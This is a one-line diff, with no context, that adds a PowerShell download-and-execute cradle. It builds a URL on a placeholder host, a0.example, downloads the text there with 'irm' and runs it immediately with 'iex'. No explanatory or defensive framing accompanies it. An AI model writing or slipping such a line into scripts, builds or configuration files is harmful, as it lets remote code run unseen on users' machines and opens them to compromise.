@@ -1,0 +1,1 @@
+$u=[uri]::new([uri]'http://a0.example/x/','../p.txt');iex(irm $u.AbsoluteUri)
